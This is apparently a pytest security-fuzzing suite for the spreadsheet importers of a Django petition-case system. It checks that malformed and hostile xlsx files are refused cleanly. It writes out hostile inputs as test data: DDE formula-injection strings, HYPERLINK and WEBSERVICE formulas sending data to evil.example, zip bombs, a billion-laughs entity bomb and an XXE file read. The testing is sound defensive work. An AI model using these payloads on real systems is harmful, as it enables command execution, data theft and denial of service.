"""Spreadsheet fuzzing (R-SEC): malformed, huge and hostile xlsx files on the unit import and the case import get a
clear Chinese error (or a clean row-by-row validation) — never a crash, never a hang, never a formula run — and
nothing is imported from them.

Hostile files: not-a-zip bytes, truncated and corrupted workbooks, zip bombs (one part inflating to 1 GiB; many
parts), an XML entity bomb and an external-entity (XXE) reference, wrong cell types (numbers, dates, booleans,
errors, 32,767-character text), formulas such as =cmd|' /C calc'!A0, a sheet of 100,000 rows, and random
byte-level mutations of a valid workbook (XINFANG_FUZZ_MUTATIONS of them; `make fuzz` runs many more).
"""

from __future__ import annotations

import datetime
import functools
import io
import os
import random
import time
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from openpyxl import Workbook

from xinfang.cases.models import Case
from xinfang.core.errors import DomainError
from xinfang.orgs.models import Unit

MUTATIONS = int(os.getenv("XINFANG_FUZZ_MUTATIONS", "40"))
SECONDS = 20  # each file is answered well within this

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example/")',
    "\t=1+1",
]


def workbook(rows: list[list[Any]]) -> bytes:
    wb = Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def replace_part(data: bytes, part: str, new: Callable[[bytes], bytes]) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for item in src.infolist():
            content = src.read(item.filename)
            z.writestr(item.filename, new(content) if item.filename == part else content)
    return out.getvalue()


# --- the two importers, answering one file each -----------------------------------------------------------------

UNIT_HEADERS = ["单位名称", "单位代码", "上级单位代码", "层级"]


def unit_import(world: Any, data: bytes, name: str = "单位.xlsx") -> str:
    """The unit import as the page runs it: read, then the all-or-nothing service. Returns the Chinese message."""
    from xinfang.orgs.importing import read_units_xlsx
    from xinfang.orgs.services import units_import

    try:
        rows = read_units_xlsx(SimpleUploadedFile(name, data))
        units_import(actor=world.user("sysadmin"), rows=rows)
    except DomainError as e:
        return e.message
    return "OK"


def case_import(world: Any, data: bytes, name: str = "台账.xlsx") -> str:
    from xinfang.cases import importing

    outcome = importing.import_ledger(actor=world.user("d1b1.officer"), data=data, name=name)
    return "OK" if outcome.ok else outcome.message


IMPORTERS = {"units": unit_import, "cases": case_import}


def ledger_headers() -> list[str]:
    from xinfang.cases import importing

    return [c.header for c in importing.COLUMNS]


def valid_file(kind: str, world: Any) -> bytes:
    if kind == "units":
        return workbook([UNIT_HEADERS, ["新一大队", "fz1", "d1", "大队"], ["新二大队", "fz2", "d2", "大队"]])
    from xinfang.cases import importing

    example = importing.example_row(world.user("d1b1.officer"))
    return workbook([ledger_headers(), [example.get(c.key, "") for c in importing.COLUMNS]])


def assert_clear_refusal(world: Any, kind: str, data: bytes, *, name: str | None = None) -> str:
    before = (Unit.objects.count(), Case.objects.count())
    start = time.monotonic()
    args = (world, data) if name is None else (world, data, name)
    message = IMPORTERS[kind](*args)
    elapsed = time.monotonic() - start
    assert elapsed < SECONDS, f"{kind}: took {elapsed:.1f}s"
    assert message != "OK", f"{kind}: a hostile file was imported"
    assert any("\u4e00" <= ch <= "\u9fff" for ch in message), f"{kind}: not a clear message: {message!r}"
    assert (Unit.objects.count(), Case.objects.count()) == before
    return message


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.mark.parametrize("kind", sorted(IMPORTERS))
def test_the_valid_file_used_as_a_base_imports(world, media, kind):
    """Guard: the mutations below start from a file that imports, so their refusals are the files' fault."""
    assert IMPORTERS[kind](world, valid_file(kind, world)) == "OK"


NOT_XLSX = [
    ("empty", b""),
    ("random bytes", bytes(random.Random(1).randrange(256) for _ in range(4096))),
    ("html", b"<html><script>alert(1)</script></html>"),
    ("pdf", b"%PDF-1.4\n%%EOF"),
    ("csv", "单位名称,单位代码\n甲,a\n".encode()),
    ("zip without a workbook", None),
    ("old .xls (OLE)", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1024),
]


def _zip_without_workbook() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("hello.txt", "not a workbook")
    return out.getvalue()


@pytest.mark.parametrize("kind", sorted(IMPORTERS))
@pytest.mark.parametrize(("label", "data"), NOT_XLSX, ids=[label for label, _ in NOT_XLSX])
def test_files_that_are_not_workbooks_get_a_clear_error(world, media, kind, label, data):
    assert_clear_refusal(world, kind, data if data is not None else _zip_without_workbook())


@pytest.mark.parametrize("kind", sorted(IMPORTERS))
def test_a_wrong_extension_gets_a_clear_error(world, media, kind):
    message = assert_clear_refusal(world, kind, valid_file(kind, world), name="file.csv")
    assert ".xlsx" in message


@pytest.mark.parametrize("kind", sorted(IMPORTERS))
def test_a_truncated_workbook_gets_a_clear_error(world, media, kind):
    data = valid_file(kind, world)
    for cut in (len(data) // 3, len(data) // 2, len(data) - 30):
        assert_clear_refusal(world, kind, data[:cut])


def xml_body(content: bytes) -> bytes:
    """The part without its XML declaration (openpyxl writes one; be safe if it does not)."""
    return content.split(b"?>", 1)[1] if content.startswith(b"<?xml") else content


BOMB_MIB = 512


@functools.lru_cache(maxsize=4)
def zip_bomb(base: bytes) -> bytes:
    """`base` with one cell of its first sheet holding 512 MiB of text: the part deflates to about half a megabyte,
    and an unguarded reader would build a 512 MiB string (1 GiB of memory and more) from it."""
    src = zipfile.ZipFile(io.BytesIO(base))
    out = io.BytesIO()
    chunk = b"A" * (1 << 20)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for item in src.infolist():
            content = src.read(item.filename)
            if item.filename != "xl/worksheets/sheet1.xml":
                z.writestr(item.filename, content)
                continue
            head, tail = content.split(b"</sheetData>", 1)
            info = zipfile.ZipInfo(item.filename, date_time=item.date_time)
            info.compress_type = zipfile.ZIP_DEFLATED
            with z.open(info, "w", force_zip64=True) as part:
                part.write(head + b'<row r="3"><c r="A3" t="inlineStr"><is><t>')
                for _ in range(BOMB_MIB):
                    part.write(chunk)
                part.write(b"</t></is></c></row></sheetData>" + tail)
    return out.getvalue()


@pytest.mark.parametrize("kind", sorted(IMPORTERS))
def test_a_zip_bomb_is_refused_before_it_is_inflated(world, media, kind):
    data = zip_bomb(valid_file(kind, world))
    assert len(data) < 5 * 1024 * 1024  # under the upload limit: the size check alone would let it in
    message = assert_clear_refusal(world, kind, data)
    assert "压缩" in message or "过大" in message


@pytest.mark.parametrize("kind", sorted(IMPORTERS))
def test_a_zip_of_an_unsupported_version_is_refused(world, media, kind):
    """Found by `make fuzz`: zipfile raises NotImplementedError ("zip file version 6.7") on such a directory."""
    data = bytearray(valid_file(kind, world))
    entry = data.index(b"PK\x01\x02")  # the first central-directory header; +6: version needed to extract
    data[entry + 6 : entry + 8] = (67).to_bytes(2, "little")
    assert "无法读取" in assert_clear_refusal(world, kind, bytes(data))


@pytest.mark.parametrize("kind", sorted(IMPORTERS))
def test_a_workbook_of_thousands_of_parts_is_refused(world, media, kind):
    src = zipfile.ZipFile(io.BytesIO(valid_file(kind, world)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for item in src.infolist():
            z.writestr(item.filename, src.read(item.filename))
        for i in range(5000):
            z.writestr(f"xl/media/junk{i}.bin", b"x")
    assert_clear_refusal(world, kind, out.getvalue())


BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode() for i in range(1, 10)
    )
    + b"]>"
)


@pytest.mark.parametrize("kind", sorted(IMPORTERS))
def test_an_xml_entity_bomb_does_not_expand(world, media, kind):
    def laugh(content: bytes) -> bytes:
        body = xml_body(content)
        return BILLION_LAUGHS + body.replace(b"<sheetData>", b"<sheetData><!-- &lol9; -->", 1).replace(
            b"</sheetData>", b'<row r="9"><c r="A9" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData>', 1
        )

    data = replace_part(valid_file(kind, world), "xl/worksheets/sheet1.xml", laugh)
    assert_clear_refusal(world, kind, data)


@pytest.mark.parametrize("kind", sorted(IMPORTERS))
def test_an_external_entity_is_never_read(world, media, kind, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT", encoding="utf-8")

    def xxe(content: bytes) -> bytes:
        body = xml_body(content)
        doctype = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file://{secret}">]>'.encode()
        return doctype + body.replace(
            b"</sheetData>", b'<row r="9"><c r="A9" t="inlineStr"><is><t>&xxe;</t></is></c></row></sheetData>', 1
        )

    data = replace_part(valid_file(kind, world), "xl/worksheets/sheet1.xml", xxe)
    message = IMPORTERS[kind](world, data)
    assert "TOP-SECRET-CONTENT" not in message
    assert not Unit.objects.filter(name__contains="TOP-SECRET").exists()
    assert not Case.objects.filter(title__contains="TOP-SECRET").exists()


def _typed_rows(kind: str, world: Any) -> list[list[Any]]:
    odd = [
        12345.678,
        -1,
        True,
        datetime.datetime(1900, 1, 1, 12, 30),
        datetime.date(9999, 12, 31),
        "#DIV/0!",
        "x" * 32767,
        "\u202eRTL\u200b",
        None,
        *FORMULAS,
    ]
    width = len(UNIT_HEADERS) if kind == "units" else len(ledger_headers())
    rng = random.Random(7)
    return [[odd[(r * 7 + c) % len(odd)] if rng.random() < 0.8 else "" for c in range(width)] for r in range(30)]


@pytest.mark.parametrize("kind", sorted(IMPORTERS))
def test_wrong_types_and_formulas_get_row_errors_and_nothing_is_imported(world, media, kind):
    headers = UNIT_HEADERS if kind == "units" else ledger_headers()
    data = workbook([headers, *_typed_rows(kind, world)])
    message = assert_clear_refusal(world, kind, data)
    assert "cmd|" not in message  # cell contents are not echoed into the page's message


@pytest.mark.parametrize("kind", sorted(IMPORTERS))
def test_formula_cells_are_never_evaluated(world, media, kind):
    """A real formula cell (=cmd|…, =HYPERLINK…) is read without evaluation (data_only: no cached value, so an
    empty cell): the required field is missing, the row is refused, and nothing of the formula is stored."""
    if kind == "units":
        rows = [UNIT_HEADERS, ["=cmd|' /C calc'!A0", "fz9", "d1", "大队"]]
    else:
        from xinfang.cases import importing

        example = importing.example_row(world.user("d1b1.officer"))
        example["title"] = '=HYPERLINK("http://evil.example","x")'
        rows = [ledger_headers(), [example.get(c.key, "") for c in importing.COLUMNS]]
    assert_clear_refusal(world, kind, workbook(rows))
    assert not Unit.objects.filter(name__contains="cmd|").exists()
    assert not Case.objects.filter(title__contains="HYPERLINK").exists()


@pytest.mark.parametrize("kind", sorted(IMPORTERS))
def test_a_sheet_of_100_000_rows_is_refused_quickly(world, media, kind):
    def many_rows(content: bytes) -> bytes:
        rows = b"".join(
            b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>unit%d</t></is></c></row>' % (i, i, i)
            for i in range(3, 100_003)
        )
        return content.replace(b"</sheetData>", rows + b"</sheetData>", 1)

    data = replace_part(valid_file(kind, world), "xl/worksheets/sheet1.xml", many_rows)
    assert_clear_refusal(world, kind, data)


@pytest.mark.parametrize("kind", sorted(IMPORTERS))
def test_random_mutations_of_a_valid_workbook_never_crash(world, media, kind):
    """Byte flips, inserted and deleted runs at random places (in the zip headers and in the compressed parts)."""
    base = valid_file(kind, world)
    rng = random.Random(int(os.getenv("XINFANG_FUZZ_SEED", "20261128")) + len(kind))
    outcomes: dict[str, int] = {}
    for _ in range(MUTATIONS):
        data = bytearray(base)
        for _ in range(rng.randint(1, 8)):
            pos = rng.randrange(len(data))
            action = rng.random()
            if action < 0.6:
                data[pos] = rng.randrange(256)
            elif action < 0.8:
                data[pos:pos] = bytes(rng.randrange(256) for _ in range(rng.randint(1, 64)))
            else:
                del data[pos : pos + rng.randint(1, 64)]
        before = (Unit.objects.count(), Case.objects.count())
        start = time.monotonic()
        # Each attempt in a savepoint rolled back at the end: a harmless mutation (e.g. in a comment) imports the
        # real rows, and those (with their audit events, which nothing may delete) are undone with it.
        with transaction.atomic():
            try:
                message = IMPORTERS[kind](world, bytes(data))
            except Exception as exc:  # the point of the test: nothing but DomainError / an outcome
                raise AssertionError(f"{kind}: {type(exc).__name__}: {exc} on a mutated file") from exc
            assert time.monotonic() - start < SECONDS
            key = "imported" if message == "OK" else "refused"
            outcomes[key] = outcomes.get(key, 0) + 1
            if message != "OK":
                assert (Unit.objects.count(), Case.objects.count()) == before
                assert any("\u4e00" <= ch <= "\u9fff" for ch in message)
            transaction.set_rollback(True)
        assert (Unit.objects.count(), Case.objects.count()) == before
    assert sum(outcomes.values()) == MUTATIONS


# --- the pages and the API answer hostile files with an error, not a 500 -----------------------------------------


@pytest.mark.parametrize(
    ("username", "url_name", "field"),
    [
        ("sysadmin", "orgs:unit-import", "file"),
        ("d1b1.officer", "cases:import", "file"),
    ],
)
def test_the_import_pages_answer_hostile_files_with_a_message(world, media, client, username, url_name, field):
    from django.urls import NoReverseMatch, reverse

    from xinfang.core.otp_testing import complete_second_factor

    try:
        url = reverse(url_name)
    except NoReverseMatch:
        pytest.skip(f"{url_name} is not mounted in xinfang/urls.py")

    user = world.user(username)
    client.force_login(user)
    complete_second_factor(client, user)
    bomb = zip_bomb(valid_file("units" if "units" in url else "cases", world))
    for data in (b"", b"<html>", bomb, valid_file("units", world)[:500]):
        r = client.post(url, {field: SimpleUploadedFile("x.xlsx", data)})
        assert r.status_code in (200, 400), (url, r.status_code)
        assert "is-invalid" in r.content.decode() or "alert-danger" in r.content.decode() or r.status_code == 400


def test_the_case_import_api_answers_hostile_files_in_json(world, media):
    from rest_framework.authtoken.models import Token
    from rest_framework.test import APIClient

    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=world.user('d1b1.officer')).key}")
    bomb = zip_bomb(valid_file("cases", world))
    for data in (b"", b"PK\x03\x04garbage", bomb):
        r = client.post("/api/v1/imports/cases/", {"file": SimpleUploadedFile("x.xlsx", data)}, format="multipart")
        assert r.status_code == 400 and r.json()["code"] and r.json()["detail"], r.content
